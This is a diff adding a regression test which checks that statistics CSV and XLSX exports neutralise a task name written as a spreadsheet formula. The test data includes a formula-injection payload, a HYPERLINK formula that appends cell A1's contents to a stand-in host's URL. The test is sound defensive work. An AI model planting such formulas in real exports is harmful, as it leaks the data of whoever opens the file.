@@ -318,3 +318,38 @@ def test_statistics_page_writes_decimals_with_a_comma_the_exports_unchanged(app,
     csv_text = ui.get("/ui/statistiques/export.csv", de="2026-01",
                       a="2026-06").get_data().decode("utf-8")
     assert all(f"{v:g}".replace(".", ",") in csv_text for v in floats)
+
+
+def test_a_task_named_as_a_formula_stays_a_text_in_the_exports(app, api):
+    """Security review: a designer's task name reached the statistics' CSV as it was and the
+    XLSX as a formula (xlsxwriter turns a text starting with « = » into one): a clerk opening
+    the export ran the designer's formula. Every other export already neutralised it."""
+    import zipfile
+
+    from tests.designer_support import xml_headers
+    from tests.integration.test_designer_user_tasks import with_a_call_first
+
+    formula = '=HYPERLINK("http://exemple.invalid/?"&A1,"Appeler")'
+    xml = with_a_call_first().replace(
+        b'name="Appeler le conducteur"',
+        b'name="' + formula.replace("&", "&amp;").replace('"', "&quot;").encode() + b'"', 1)
+    api.set_today("02/03/2026")
+    resp = api.request("POST", "/api/v1/processes/stage_volontaire/versions", as_="designer",
+                       raw=xml, headers=xml_headers())
+    assert resp.status_code == 201, resp.get_data(as_text=True)[:800]
+    api.licence("120175200123", obtained="01/09/2015", probation="none", points=8)
+    api.voluntary_case("120175200123")
+    ui = UiClient(app)
+    ui.login("agent")
+    csv_text = ui.get("/ui/statistiques/export.csv").get_data().decode("utf-8")
+    import csv
+    row = next(r for r in csv.reader(io.StringIO(csv_text), delimiter=";") if r and
+               "HYPERLINK" in r[0])
+    assert row[0] == "'" + formula
+    xlsx = ui.get("/ui/statistiques/export.xlsx").get_data()
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
+        sheets = "".join(book.read(n).decode() for n in book.namelist()
+                         if n.startswith("xl/worksheets/"))
+        strings = book.read("xl/sharedStrings.xml").decode()
+    assert "<f>" not in sheets and "HYPERLINK" not in sheets
+    assert "=HYPERLINK(" in strings
